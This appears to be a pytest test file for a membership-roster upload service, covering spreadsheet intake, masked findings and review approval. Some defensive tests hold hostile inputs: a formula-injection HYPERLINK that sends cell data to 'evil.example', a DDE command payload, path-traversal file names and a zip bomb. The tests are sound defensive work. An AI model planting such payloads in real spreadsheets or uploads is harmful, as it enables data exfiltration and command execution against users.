@@ -1,0 +1,303 @@
+"""The intake's desk: uploads of every kind, findings, the annotated copy, and the way to approval."""
+
+from __future__ import annotations
+
+import io
+import threading
+import zipfile
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from personalize.intake import Limits
+from reader_service.errors import (
+    Conflict,
+    Forbidden,
+    Invalid,
+    NotFound,
+    OwnWork,
+    TooLarge,
+    TooMany,
+    Unavailable,
+    UnreadableForm,
+)
+from reader_service.principal import Principal, Role
+from reader_service.services.rosters import RosterDesk
+from reader_service.services.uploads import FORMS, Uploads, pieces
+from registry.batches.reviews import ChangeKind
+from registry.errors import RegistryUnavailable
+from registry.values import BatchState
+from tests.support import forms
+from tests.support.forms import UNIT, person
+from tests.support.service.services import AUDITOR, CLERK, COUNTER, NOBODY, REVIEWER, Office, last_deed
+
+GOOD, BAD = [person(1), person(2)], person(3, phone="")
+
+
+@pytest.fixture
+def desk(office: Office) -> RosterDesk:
+    return RosterDesk(office.parts, office.bus)
+
+
+def form(tmp_path: Path, *people: list[object], name: str = "form.xlsx") -> bytes:
+    return forms.xlsx(tmp_path / name, forms.form(*people)).read_bytes()
+
+
+def test_a_form_becomes_a_draft_and_its_returned_rows_are_told(
+    office: Office, desk: RosterDesk, tmp_path: Path
+) -> None:
+    content = form(tmp_path, *GOOD, BAD)
+    view = desk.upload(CLERK, "会员登记表.xlsx", pieces(io.BytesIO(content).read, 1000))
+
+    assert view.batch is not None
+    assert (view.unit, view.accepted, view.rejected, view.counts) == (UNIT, 2, 1, {"PHONE_MISSING": 1})
+    assert (view.batch.state, view.batch.imported_by, view.batch.source) == (
+        BatchState.DRAFT,
+        "李娜",
+        "会员登记表.xlsx",
+    )
+    (finding,) = view.findings
+    assert (finding.sheet_row, finding.codes, finding.name_masked) == (6, ("PHONE_MISSING",), "孙**")
+    assert (finding.reason_zh, finding.reason_en) == ("没有填写手机号码。", "the mobile number is missing.")
+    assert office.events("batch.changed")[-1].topic == view.batch.id
+    assert office.registry.originals.of(view.batch.id).content == content
+
+
+def test_findings_come_masked_and_in_pages(desk: RosterDesk, tmp_path: Path) -> None:
+    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD)]).batch
+    assert batch is not None
+    first = desk.findings(AUDITOR, batch.id, None, 2)
+    assert [one.accepted for one in first.items] == [True, True]
+    assert (first.items[0].name_masked, first.items[0].mobile_masked) == ("孙**", "*******4135")
+    (last,) = desk.findings(REVIEWER, batch.id, first.next, 2).items
+    assert (last.accepted, last.reason_en) == (False, "the mobile number is missing.")
+    assert desk.findings(REVIEWER, batch.id, only="rejected").items == (last,)
+    with pytest.raises(Invalid):
+        desk.findings(REVIEWER, batch.id, "nonsense")
+    with pytest.raises(NotFound):
+        desk.findings(REVIEWER, "B20261122-999")
+
+
+def test_the_annotated_copy_says_what_was_said_at_the_upload(office: Office, desk: RosterDesk, tmp_path: Path) -> None:
+    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD, person(1))]).batch
+    assert batch is not None
+    made = desk.annotated(CLERK, batch.id)
+    sheet = load_workbook(io.BytesIO(made.content)).worksheets[0]
+    assert made.filename == "form-审核.xlsx"
+    assert [sheet.cell(row, 7).value for row in range(3, 8)] == ["审核结果", "通过", "通过", "退回", "退回"]
+    assert "重复" in str(sheet.cell(7, 8).value)
+    assert last_deed(office.registry)[:3] == ("李娜", "roster.download", f"batch:{batch.id}")
+    desk.discard(CLERK, batch.id, "wrong unit")
+    with pytest.raises(NotFound, match="no uploaded form"):
+        desk.annotated(CLERK, batch.id)
+
+
+def test_a_form_of_which_nobody_passes_is_told_and_not_kept(office: Office, desk: RosterDesk, tmp_path: Path) -> None:
+    content = form(tmp_path, BAD)
+    view = desk.upload(CLERK, "form.xlsx", [content])
+    assert (view.batch, view.rejected) == (None, 1)
+    assert (office.registry.batches(), office.heard) == ([], [])
+    sheet = load_workbook(io.BytesIO(desk.check(CLERK, "form.xlsx", [content]).content)).worksheets[0]
+    assert sheet.cell(4, 7).value == "退回"
+
+
+def test_formulas_of_a_form_do_not_come_back(desk: RosterDesk, tmp_path: Path) -> None:
+    evil = person(1)
+    evil[2] = '=HYPERLINK("http://evil.example/?"&B4,"孙波磊")'
+    sheet = load_workbook(
+        io.BytesIO(desk.check(CLERK, "f.xlsx", [form(tmp_path, evil, person(2))]).content)
+    ).worksheets[0]
+    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
+    text = forms.text(tmp_path / "f.csv", forms.form([1, "=cmd|' /C calc'!A0", *person(1)[2:]])).read_bytes()
+    book = load_workbook(io.BytesIO(desk.check(CLERK, "f.csv", [text]).content))
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if str(cell.value).startswith("=")]
+    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["", "  ", "..", "../form.xlsx", "/etc/form.xlsx", "C:\\form.xlsx", "a\0b.xlsx", "a\nb.xlsx", "表" * 61 + ".xlsx"],
+)
+def test_a_name_that_names_a_place_is_refused(name: str, desk: RosterDesk, tmp_path: Path) -> None:
+    with pytest.raises(Invalid) as caught:
+        desk.upload(CLERK, name, [form(tmp_path, *GOOD)])
+    assert list(caught.value.fields) == ["file"]
+
+
+def test_what_is_no_form_is_refused_in_both_languages(desk: RosterDesk, tmp_path: Path) -> None:
+    workbook = form(tmp_path, *GOOD)
+    macros = io.BytesIO(workbook)
+    with zipfile.ZipFile(macros, "a") as archive:
+        archive.writestr("xl/vbaProject.bin", b"\0")
+    bad = {
+        "form.xlsm": (macros.getvalue(), "has macros", "含有宏"),
+        "form.pdf": (b"%PDF-1.7", "is a PDF file", "这是PDF"),
+        "form.xlsx": (workbook[:-200], "damaged", "损坏"),
+        "form.csv": (b"a,b\n1,2\n", "header|columns", "表头"),
+        "empty.csv": (b"", "empty", "空"),
+    }
+    for name, (content, english, chinese) in bad.items():
+        with pytest.raises(UnreadableForm, match=english) as caught:
+            desk.upload(CLERK, name, [content])
+        assert chinese in str(caught.value.params["chinese"])
+        assert chinese not in str(caught.value)
+
+
+def test_what_is_too_large_is_refused_before_it_is_read(office: Office, tmp_path: Path) -> None:
+    taken: list[int] = []
+
+    def endless() -> object:
+        while True:
+            taken.append(1)
+            yield b"x" * 1000
+
+    small = RosterDesk(office.parts, office.bus, uploads=Uploads(Limits(file_bytes=10_000)))
+    with pytest.raises(TooLarge, match="larger than"):
+        small.upload(CLERK, "form.csv", endless())  # type: ignore[arg-type]
+    assert len(taken) == 11
+    bomb = io.BytesIO(form(tmp_path, *GOOD))
+    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/bomb.xml", b"\0" * (FORMS.unpacked_bytes + 1))
+    with pytest.raises(TooLarge, match="unpacks") as caught:
+        RosterDesk(office.parts, office.bus).upload(CLERK, "form.xlsx", [bomb.getvalue()])
+    assert "解压" in str(caught.value.params["chinese"])
+
+
+def test_only_so_many_forms_are_read_at_once(office: Office, tmp_path: Path) -> None:
+    desk = RosterDesk(office.parts, office.bus, uploads=Uploads(at_once=1, patience=0.05))
+    content = form(tmp_path, *GOOD)
+    inside, go_on = threading.Event(), threading.Event()
+
+    def slow() -> object:
+        inside.set()
+        go_on.wait(20)
+        yield content
+
+    first = threading.Thread(target=desk.upload, args=(CLERK, "form.xlsx", slow()))
+    first.start()
+    inside.wait(20)
+    with pytest.raises(TooMany) as caught:
+        desk.upload(CLERK, "form.xlsx", [content])
+    assert caught.value.retry_after > 0
+    go_on.set()
+    first.join()
+    assert len(office.registry.batches()) == 1
+
+
+def test_nothing_of_an_upload_is_left_behind(desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    where = tmp_path / "tmp"
+    where.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(where))
+    desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
+    with pytest.raises(UnreadableForm):
+        desk.upload(CLERK, "form.xlsx", [b"PK"])
+    assert list(where.iterdir()) == []
+
+
+def test_the_same_form_twice_makes_one_batch(
+    office: Office, desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    content = form(tmp_path, *GOOD)
+    desk.upload(CLERK, "form.xlsx", [content])
+    view = desk.upload(CLERK, "again.xlsx", [content])
+    assert (view.batch, view.counts) == (None, {"ALREADY_HAS_CARD": 2})
+    monkeypatch.setattr(office.registry, "known_members", lambda numbers: {})  # both were checked before either came in
+    with pytest.raises(Conflict, match="imported before"):
+        desk.upload(CLERK, "again.xlsx", [content])
+    assert len(office.registry.batches()) == 1
+
+
+def test_a_form_goes_to_review_and_back_and_is_approved_by_another(
+    office: Office, desk: RosterDesk, tmp_path: Path
+) -> None:
+    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
+    assert batch is not None
+    with pytest.raises(Conflict, match="is not sent for review"):
+        desk.approve(REVIEWER, batch.id)
+    desk.submit(CLERK, batch.id)
+    with pytest.raises(Conflict, match="already"):
+        desk.submit(CLERK, batch.id)
+    with pytest.raises(Invalid):
+        desk.give_back(REVIEWER, batch.id, "  ")
+    desk.give_back(REVIEWER, batch.id, "two of them\nleft")
+    desk.submit(CLERK, batch.id)
+    changes = desk.changes(REVIEWER, batch.id).items
+    assert [(one.kind, one.name_after, one.name_before) for one in changes] == [(ChangeKind.NEW, "孙**", "")] * 2
+    done = desk.approve(REVIEWER, batch.id)
+    assert (done.state, done.approved_by) == (BatchState.APPROVED, "王芳")
+    assert [(one.by, one.step, one.reason) for one in desk.reviews(AUDITOR, batch.id)] == [
+        ("李娜", "submitted", ""),
+        ("王芳", "returned", "two of them left"),
+        ("李娜", "submitted", ""),
+    ]
+    assert [event.data["review"] for event in office.events("batch.changed")] == [
+        None,
+        "submitted",
+        "returned",
+        "submitted",
+        None,
+    ]
+
+
+def test_nobody_approves_what_they_imported(office: Office, desk: RosterDesk, tmp_path: Path) -> None:
+    both = Principal("李 娜", frozenset({Role.REGISTRAR, Role.REVIEWER}))
+    batch = desk.upload(both, "form.xlsx", [form(tmp_path, *GOOD)]).batch
+    assert batch is not None
+    desk.submit(both, batch.id)
+    with pytest.raises(OwnWork):
+        desk.approve(both, batch.id)
+    assert office.registry.batch(batch.id).state is BatchState.DRAFT
+
+
+def test_what_is_given_back_while_it_is_approved_is_not_approved(
+    office: Office, desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
+    assert batch is not None
+    desk.submit(CLERK, batch.id)
+    write = office.registry._db.write
+
+    def after_another_gave_it_back() -> object:
+        monkeypatch.setattr(office.registry._db, "write", write)
+        office.registry.reviews.give_back(batch.id, by="赵敏", reason="row 2 is wrong")
+        return write()
+
+    monkeypatch.setattr(office.registry._db, "write", after_another_gave_it_back)
+    with pytest.raises(Conflict) as caught:
+        desk.approve(REVIEWER, batch.id)
+    assert caught.value.params == {"reason": "batch-not-sent", "batch": batch.id}
+    assert office.registry.batch(batch.id).state is BatchState.DRAFT
+
+
+def test_every_method_asks_who_it_is(desk: RosterDesk) -> None:
+    for who in (NOBODY, COUNTER):
+        for call in (
+            lambda p: desk.upload(p, "f.csv", []),
+            lambda p: desk.check(p, "f.csv", []),
+            lambda p: desk.findings(p, "B"),
+            lambda p: desk.annotated(p, "B"),
+            lambda p: desk.submit(p, "B"),
+            lambda p: desk.reviews(p, "B"),
+            lambda p: desk.changes(p, "B"),
+            lambda p: desk.change_counts(p, "B"),
+            lambda p: desk.approve(p, "B"),
+            lambda p: desk.give_back(p, "B", "why"),
+            lambda p: desk.discard(p, "B", "why"),
+        ):
+            with pytest.raises(Forbidden):
+                call(who)
+    with pytest.raises(Forbidden):
+        desk.annotated(REVIEWER, "B")
+
+
+def test_a_database_that_is_away_is_told_as_such(
+    office: Office, desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def away(*_: object, **__: object) -> object:
+        raise RegistryUnavailable("postgresql://user:hunter2@host is away")
+
+    monkeypatch.setattr(office.registry, "known_members", away)
+    with pytest.raises(Unavailable) as caught:
+        desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
+    assert "hunter2" not in str(caught.value)
